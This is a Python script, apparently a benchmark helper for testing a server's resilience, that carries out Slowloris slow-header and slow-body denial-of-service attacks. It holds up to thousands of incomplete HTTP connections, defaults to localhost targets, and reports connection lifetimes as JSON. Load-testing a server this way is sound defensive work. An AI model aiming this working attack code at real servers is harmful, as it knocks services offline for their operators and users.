#!/usr/bin/python3
"""Slowloris / slow-body attacker for bench/slowloris.sh (slowhttptest's -H
and -B modes, but from a chosen source address so the normal traffic from
127.0.0.1 is a different client).

Keeps up to N connections open to HOST:PORT from SRC, opened at RATE per
second; each sends an incomplete request (slow headers: a head without its
end, then one "X-a<n>: b\r\n" line every INTERVAL s; slow body: a full head
with Content-Length, then INTERVAL-spaced bytes of body). A connection the
server closes is counted (with how long it lived) and replaced, as a real
attacker would. Runs for DURATION s, then prints one JSON line of stats.
"""
import argparse
import errno
import json
import random
import selectors
import socket
import time


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--src", default="127.0.0.2")
    ap.add_argument("-c", "--conns", type=int, default=2000)
    ap.add_argument("-r", "--rate", type=int, default=500)
    ap.add_argument("-i", "--interval", type=float, default=5.0)
    ap.add_argument("-d", "--duration", type=float, default=30.0)
    ap.add_argument("--mode", choices=("headers", "body"), default="headers")
    a = ap.parse_args()

    sel = selectors.DefaultSelector()
    conns = {}              # sock -> [opened_at, next_send, n]
    st = {"opened": 0, "connect_failed": 0, "server_closed": 0, "max_open": 0,
          "lifetimes": [], "bytes_sent": 0}
    t0 = time.monotonic()
    end = t0 + a.duration
    budget = 0.0
    last = t0

    def opener():
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        try:
            s.bind((a.src, 0))
            rc = s.connect_ex((a.host, a.port))
            if rc not in (0, errno.EINPROGRESS):
                raise OSError(rc, "connect")
        except OSError:
            st["connect_failed"] += 1
            s.close()
            return
        now = time.monotonic()
        conns[s] = [now, now, 0]
        sel.register(s, selectors.EVENT_READ)
        st["opened"] += 1

    def drop(s, by_server):
        info = conns.pop(s, None)
        try:
            sel.unregister(s)
        except (KeyError, ValueError):
            pass
        s.close()
        if by_server and info:
            st["server_closed"] += 1
            st["lifetimes"].append(time.monotonic() - info[0])

    while True:
        now = time.monotonic()
        if now >= end:
            break
        budget = min(budget + (now - last) * a.rate, a.rate)
        last = now
        while budget >= 1 and len(conns) < a.conns:
            opener()
            budget -= 1
        st["max_open"] = max(st["max_open"], len(conns))
        for s, info in list(conns.items()):
            if info[1] > now:
                continue
            if info[2] == 0:
                if a.mode == "headers":
                    data = b"GET /?%d HTTP/1.1\r\nHost: %s\r\nUser-Agent: slowloris-bench\r\n" % (
                        random.randrange(1 << 30), a.host.encode())
                else:
                    data = (b"POST /upload HTTP/1.1\r\nHost: %s\r\nContent-Length: 1000000\r\n"
                            b"Content-Type: application/x-www-form-urlencoded\r\n\r\n" % a.host.encode())
            elif a.mode == "headers":
                data = b"X-a%d: b\r\n" % info[2]
            else:
                data = b"a=%d&" % info[2]
            try:
                n = s.send(data)
                st["bytes_sent"] += n
            except BlockingIOError:
                pass
            except OSError:
                drop(s, True)
                continue
            info[2] += 1
            info[1] = now + a.interval
        for key, _ in sel.select(timeout=0.05):
            s = key.fileobj
            try:
                d = s.recv(65536)
            except BlockingIOError:
                continue
            except OSError:
                drop(s, True)
                continue
            if not d:
                drop(s, True)
    still = len(conns)
    for s in list(conns):
        drop(s, False)
    lt = sorted(st.pop("lifetimes"))
    st["still_open_at_end"] = still
    st["lifetime_median_s"] = round(lt[len(lt) // 2], 2) if lt else None
    st["lifetime_max_s"] = round(lt[-1], 2) if lt else None
    print(json.dumps(st))


if __name__ == "__main__":
    main()
